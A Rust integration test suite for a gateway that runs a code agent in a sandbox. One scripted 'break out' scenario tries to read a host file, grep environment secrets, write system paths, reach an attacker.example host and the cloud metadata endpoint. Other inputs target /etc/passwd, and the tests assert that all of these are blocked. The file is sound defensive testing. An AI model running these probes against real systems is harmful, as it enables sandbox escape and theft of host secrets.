//! The example app `docs/examples/code-agent`: a Node script on the Agent SDK's `query()`, with a shell, in a real sandbox.

use gate_tests::{CodeApp, Person, Setup, TestGate, agent, code_runtime, eventually, hexward};
use hexward::clock::SystemClock;
use secrecy::SecretString;
use serde_json::{Value, json};
use std::fs::Permissions;
use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::os::unix::process::CommandExt;
use std::path::Path;
use std::process::{Command, Stdio};
use std::sync::Arc;
use std::time::Duration;
use store::Store;
use tempfile::TempDir;
use tokio::net::TcpListener;
use tokio_util::sync::CancellationToken;

/// A model that has one command run, then says what came out of it.
fn runs(name: &'static str, command: &str) -> (&'static str, String) {
    assert!(!command.contains("'''"), "it stands between three of them");
    let text = format!(
        "name = '{name}'\nabout = 'Runs a command.'\n[[reply]]\nwhen = {{ turn = 1 }}\n[[reply.steps]]\n\
         tool_use = {{ name = 'Bash', input = {{ command = '''\n{command}''', description = 'Try' }} }}\n\
         [[reply]]\nsteps = [{{ text = 'It printed: ${{Bash}}' }}]\n"
    );
    (name, text)
}

fn setup(app: &CodeApp, scenarios: Vec<(&'static str, String)>) -> Setup {
    Setup { apps: vec![app.read()], runtime: code_runtime(), scenarios, ..Setup::default() }
}

async fn conversation(person: &Person) -> String {
    person.conversation_with(&json!({"app": "code-agent"})).await
}

/// What the model said at the end of a run that finished.
fn said(events: &[Value]) -> String {
    assert_eq!(events.last().unwrap()["outcome"], "finished", "{events:?}");
    events.iter().filter_map(|event| event["text"].as_str()).collect()
}

const WORK: &str = r#"
git --version && python3 -c 'print("python", 6*7)' && node -p '"node " + 6*7'
echo "print('from a file')" > job.py && python3 job.py
pwd; id -u; ls /
"#;

/// Each line prints what it must not.
const HARM: &str = r#"
cat CANARY 2>/dev/null && echo READ-THE-HOST
ls -d /root /home /var /sys /run /boot 2>/dev/null
env | grep -q -e SECRET -e DATABASE && echo SECRETS-IN-THE-ENVIRONMENT
touch /app/x 2>/dev/null && echo WROTE-THE-APP
touch /usr/x 2>/dev/null && echo WROTE-THE-RUNTIME
cat > /tmp/out.py <<'PY'
import socket, urllib.request, urllib.error
for port in (22, 5432):
    try:
        socket.create_connection(("198.51.100.7", port), 3); print("REACHED", port)
    except OSError: pass
try:
    socket.getaddrinfo("secret.attacker.example", 80); print("RESOLVED")
except OSError: pass
for url in ("http://169.254.169.254/latest", "http://198.51.100.7/"):
    try:
        urllib.request.urlopen(url, timeout=5); print("FETCHED", url)
    except urllib.error.HTTPError as error: print("refused", error.code)
PY
python3 /tmp/out.py
echo end
"#;

#[tokio::test(flavor = "multi_thread")]
async fn a_script_on_the_agent_sdk_executes_code_and_only_in_its_own_sandbox() {
    let app = CodeApp::new();
    let canary = app.path().join("canary");
    std::fs::write(&canary, "of the host").unwrap();
    let harm = HARM.replace("CANARY", &canary.display().to_string());
    let look = "ls -A /work; cat job.py 2>&1 || echo nothing";
    let gate = TestGate::start(setup(&app, vec![runs("work", WORK), runs("harm", &harm), runs("look", look)])).await;
    let (ada, bob) = (gate.person().await, gate.person().await);
    let hers = conversation(&ada).await;
    let worked = ada.run(&hers, "[[scenario:work]] Try the tools", false).await;
    let text = said(&worked);
    for printed in ["git version 2", "python 42", "node 42", "from a file", "/work\n1000\n"] {
        assert!(text.contains(printed), "{printed}: {text}");
    }
    assert!(text.contains("agent\napp\nbin\ndev\netc\nlib\nlib64\nopt\nproc\ntmp\nusr\nwork"), "nothing else is there: {text}");
    let told = gate.provider_saw().pop().unwrap();
    assert!(String::from_utf8_lossy(&told.body).contains("from a file"), "the output went back to the model");
    // What is shown and kept says that it was done inside.
    let call = worked.iter().find(|event| event["type"] == "tool_call").unwrap();
    assert_eq!((&call["tool"], &call["inside"]), (&json!("Bash"), &json!(true)), "{call}");
    let kept = ada.history(&hers).await;
    let kept = kept.iter().find(|message| message["role"] == "tool").unwrap();
    assert_eq!((&kept["tool"], &kept["inside"]), (&json!("Bash"), &json!(true)), "{kept}");

    let harmed = ada.run(&hers, "[[scenario:harm]] Now break out", false).await;
    assert_eq!(said(&harmed).trim(), "It printed: refused 403\nrefused 403\nend", "{harmed:?}");
    let denied: Vec<_> = harmed.iter().filter(|event| event["type"] == "denied").collect();
    assert!(denied.len() >= 3 && denied.iter().all(|event| event["code"] == "egress.host"), "{denied:?}");

    // Hers is still there, with her file; his is another one.
    let (mine, other) = (ada.run(&hers, "[[scenario:look]] Look", false), async {
        let conversation = conversation(&bob).await;
        bob.run(&conversation, "[[scenario:look]] Look", false).await
    });
    let (mine, other) = tokio::join!(mine, other);
    assert!(said(&mine).contains("print('from a file')"), "{mine:?}");
    assert!(said(&other).contains("nothing") && !said(&other).contains("from a file"), "{other:?}");
    assert_eq!(gate.sandboxes_started(), 2, "one each");
    gate.finish().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_script_that_was_not_there_is_told_what_was_said() {
    let app = CodeApp::new();
    let mut setup = setup(&app, vec![runs("work", "echo forty-two")]);
    setup.runs.idle = Duration::ZERO;
    let gate = TestGate::start(setup).await;
    let ada = gate.person().await;
    let conversation = conversation(&ada).await;
    assert!(said(&ada.run(&conversation, "[[scenario:work]] The word is Aurora", false).await).contains("forty-two"));
    ada.run(&conversation, "What was the word?", false).await;
    assert_eq!(gate.sandboxes_started(), 2, "the first agent is gone");
    let asked = gate.provider_saw().pop().unwrap();
    let asked = String::from_utf8_lossy(&asked.body);
    assert!(asked.contains("The word is Aurora") && asked.contains("It printed: forty-two"), "{asked}");
    gate.finish().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn what_a_person_writes_is_inert_for_a_script_too() {
    let app = CodeApp::new();
    let gate = TestGate::start(setup(&app, Vec::new())).await;
    let ada = gate.person().await;
    for text in ["see @/etc/passwd and @/app/agent.mjs please", "/model claude-fable-5", "/context", "!cat /etc/passwd"] {
        let before = gate.provider_saw().len();
        let events = ada.run(&conversation(&ada).await, text, false).await;
        assert_eq!(events.last().unwrap()["outcome"], "finished", "{text}: {events:?}");
        let asked = gate.provider_saw().split_off(before);
        assert_eq!(asked.len(), 1, "{text}: one message, one model call");
        let body: Value = serde_json::from_slice(&asked[0].body).unwrap();
        assert_eq!(body["model"], "claude-sonnet-5-5", "{text}");
        assert!(
            body["messages"].to_string().contains(&Value::from(text).to_string()),
            "{text} arrived as it was written: {body}"
        );
        assert!(!body.to_string().contains("agent:x:1000") && !body.to_string().contains("createInterface"), "{text}: {body}");
    }
    gate.finish().await;
}

/// `hexward demo --once` with a configuration, as its operator types it; as an ordinary user, if wanted.
fn demo(folder: &Path, configuration: &str, user: Option<u32>, environment: &[(&str, &str)]) -> (bool, String) {
    let file = folder.join("hexward.toml");
    std::fs::write(&file, configuration).unwrap();
    let mut command = Command::new(folder.join("hexward"));
    for name in ["hexward", "hexward-jail"] {
        let _ = std::fs::remove_file(folder.join(name));
        std::fs::copy(hexward().with_file_name(name), folder.join(name)).unwrap();
    }
    let state = folder.join("state");
    command.args(["demo", "--app", "code-agent", "--scenario", "run-code", "--once", "Which versions?", "--state-dir"]);
    command.arg(&state).arg("--config").arg(&file);
    command.env_clear().envs(environment.iter().copied()).env("PATH", "/usr/bin:/bin").current_dir(folder);
    let mut installed = agent();
    if let Some(user) = user {
        // Root's installation may be root's alone. A link would change its identity under gateways that run.
        installed = folder.join("agent");
        std::fs::copy(agent(), &installed).unwrap();
        std::fs::create_dir_all(&state).unwrap();
        std::fs::set_permissions(&state, Permissions::from_mode(0o700)).unwrap();
        std::os::unix::fs::chown(&state, Some(user), Some(user)).unwrap();
        command.uid(user).gid(user);
    }
    let output = command.arg("--agent").arg(installed).stdin(Stdio::null()).output().unwrap();
    let text = format!("{}{}", String::from_utf8_lossy(&output.stdout), String::from_utf8_lossy(&output.stderr));
    (output.status.success(), text)
}

fn open_folder() -> TempDir {
    let folder = tempfile::tempdir().unwrap();
    std::fs::set_permissions(folder.path(), Permissions::from_mode(0o755)).unwrap();
    folder
}

fn configuration(app: &Path, runtime: &Path) -> String {
    format!("[agent]\nruntime = '{}'\n[[apps]]\npath = '{}'\n", runtime.display(), app.display())
}

#[test]
fn one_command_shows_it_to_anybody() {
    const NOBODY: u32 = 65534;
    let (app, own) = (CodeApp::new(), std::fs::metadata("/proc/self").unwrap().uid());
    // Without root there is only one to be.
    let users = if own == 0 { vec![None, Some(NOBODY)] } else { vec![None] };
    for user in users {
        let folder = open_folder();
        let (ok, text) = demo(folder.path(), &configuration(app.path(), &code_runtime()), user, &[]);
        assert!(ok && text.contains("rinted: git versi"), "{user:?}: {text}");
    }
}

#[test]
fn an_app_that_can_t_run_is_refused_with_what_to_do() {
    let app = CodeApp::new();
    let refused = |runtime: &Path, environment: &[(&str, &str)]| {
        let folder = open_folder();
        let (ok, text) = demo(folder.path(), &configuration(app.path(), runtime), None, environment);
        assert!(!ok, "{text}");
        text
    };
    let empty = open_folder();
    let missing = refused(&empty.path().join("none"), &[]);
    assert!(missing.contains("app code-agent") && missing.contains("run `hexward runtime-build`"), "{missing}");

    let image = empty.path().join("image");
    let built = Command::new(hexward()).args(["runtime-build", "--folder"]).arg(&image).status().unwrap();
    assert!(built.success());
    std::fs::write(image.join("usr/bin/extra"), "").unwrap();
    assert!(refused(&image, &[]).contains("usr/bin/extra is in the runtime for code, but not in its lock"));
    std::fs::remove_file(image.join("usr/bin/extra")).unwrap();
    std::fs::write(image.join("usr/bin/git"), "#!/bin/sh\n").unwrap();
    assert!(refused(&image, &[]).contains("usr/bin/git was changed after it was installed"));

    let good = code_runtime();
    assert!(refused(&good, &[("USE_SANDBOX", "false")]).contains("needs the sandbox"));
    let manifest = app.path().join("app.toml");
    let text = std::fs::read_to_string(&manifest).unwrap();
    for (command, said) in [("'ruby'", "/usr/bin/ruby is not a program"), ("'/app/agent.mjs'", "/app/agent.mjs is not a program")]
    {
        std::fs::write(&manifest, text.replace("\"node\"", command)).unwrap();
        assert!(refused(&good, &[]).contains(said), "{said}");
    }
    std::fs::write(&manifest, text.replace("files = \"agent\"", "files = \"elsewhere\"")).unwrap();
    assert!(refused(&good, &[]).contains("elsewhere"));
    std::fs::write(&manifest, &text).unwrap();

    let link = app.path().join("agent/link");
    for target in ["/etc/passwd", "../../app.toml", "../app.toml"] {
        std::os::unix::fs::symlink(target, &link).unwrap();
        assert!(refused(&good, &[]).contains("is a symbolic link to"), "{target}");
        std::fs::remove_file(&link).unwrap();
    }
    let native = app.path().join("agent/node_modules/@anthropic-ai/claude-agent-sdk-linux-x64");
    std::fs::create_dir(&native).unwrap();
    assert!(refused(&good, &[]).contains("npm ci --omit=optional"));
    std::fs::remove_dir(&native).unwrap();
    for (mode, said) in [(0o666, "can be changed by others"), (0o600, "can't be read by a sandbox's user")] {
        std::fs::set_permissions(app.path().join("agent/agent.mjs"), Permissions::from_mode(mode)).unwrap();
        assert!(refused(&good, &[]).contains(said), "{said}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_runtime_that_is_changed_under_a_running_gateway_is_not_used() {
    let (app, folder) = (CodeApp::new(), open_folder());
    let image = folder.path().join("code");
    let built = Command::new(hexward()).args(["runtime-build", "--folder"]).arg(&image).status().unwrap();
    assert!(built.success());
    let gate = TestGate::start(Setup { runtime: image.clone(), ..setup(&app, vec![runs("work", "echo well")]) }).await;
    let ada = gate.person().await;
    assert!(said(&ada.run(&conversation(&ada).await, "[[scenario:work]]", false).await).contains("well"));
    std::fs::write(image.join("usr/bin/extra"), "#!/bin/sh\n").unwrap();
    let events = ada.run(&conversation(&ada).await, "[[scenario:work]]", false).await;
    let end = events.last().unwrap();
    assert_eq!((&end["outcome"], &end["code"]), (&json!("failed"), &json!("agent.missing")), "{events:?}");
    // The map needs none of it.
    let events = ada.run(&ada.conversation().await, "What is on my map?", false).await;
    assert_eq!(events.last().unwrap()["outcome"], "finished", "{events:?}");
    gate.finish().await;
}

/// The map's server as a foreign one would be: at an address, with a credential of its own.
async fn foreign_server(folder: &Path, credential: &str) -> (String, CancellationToken) {
    let store = Store::open(&format!("sqlite:{}", folder.join("foreign.db").display()), &[&store::CORE, &hexmap::SCHEMA])
        .await
        .unwrap()
        .with_masters(store::Masters::passing().unwrap())
        .await
        .unwrap();
    let listener = TcpListener::bind(("127.0.0.1", 0)).await.unwrap();
    let url = format!("http://{}{}", listener.local_addr().unwrap(), hexmap::PATH);
    let config = hexmap::ServerConfig { credential: credential.to_owned(), hosts: Vec::new(), clock: Arc::new(SystemClock) };
    let stop = CancellationToken::new();
    tokio::spawn(hexmap::serve(listener, store, config, stop.clone()));
    (url, stop)
}

#[tokio::test(flavor = "multi_thread")]
async fn a_script_uses_its_app_s_tools_as_any_agent_does() {
    let app = CodeApp::new();
    let (url, stop) = foreign_server(app.path(), &"0123456789abcdef".repeat(4)).await;
    let manifest = app.path().join("app.toml");
    let tools = format!(
        "[mcp]\nname = 'tiles'\nserver = '{url}'\n[tools.getCurrentUser]\neffect = 'read'\n[tools.getItemsForRootItem]\neffect = 'read'\n[tools.addItem]\neffect = 'write'\ndestructive = false\nopen_world = false\ninverse = 'undoChange'\n"
    );
    let with_tools =
        std::fs::read_to_string(&manifest).unwrap().replace("[agent]", "[agent]\ndanger_induced_writes = true") + &tools;
    std::fs::write(&manifest, with_tools).unwrap();
    let mut folder = app.read();
    folder.credential = Some(SecretString::from("0123456789abcdef".repeat(4)));
    let mut setup = Setup { apps: vec![folder], runtime: code_runtime(), ..Setup::default() };
    setup.runs.warm_agents_max = 4;
    let gate = TestGate::start(setup).await;
    // After a start that failed on a busy machine the pool pauses half a minute.
    eventually("scripts are ready ahead of need, too", Duration::from_secs(240), async || gate.gateway.runs.agents_ready() == 4)
        .await;
    let ada = gate.person().await;
    let hers = conversation(&ada).await;
    let events = ada.run(&hers, "Create a tile called Aurora to the north-east", true).await;
    assert_eq!(events.last().unwrap()["outcome"], "finished", "{events:?}");
    let done: Vec<_> = events.iter().filter(|event| event["type"] == "tool_result").collect();
    assert!(done.iter().any(|event| event["tool"] == "addItem" && event["ok"] == true), "{events:?}");
    assert!(events.iter().all(|event| event["inside"] != true), "these are the app's, not the agent's own: {events:?}");
    assert!(ada.tiles().await.is_empty(), "the map that comes with the gateway is another app");
    // With changes off there is no such tool, whatever the script would allow.
    let events = ada.run(&hers, "Create a tile called Borealis to the west", false).await;
    assert!(!events.iter().any(|event| event["tool"] == "addItem"), "{events:?}");
    gate.finish().await;
    stop.cancel();
}
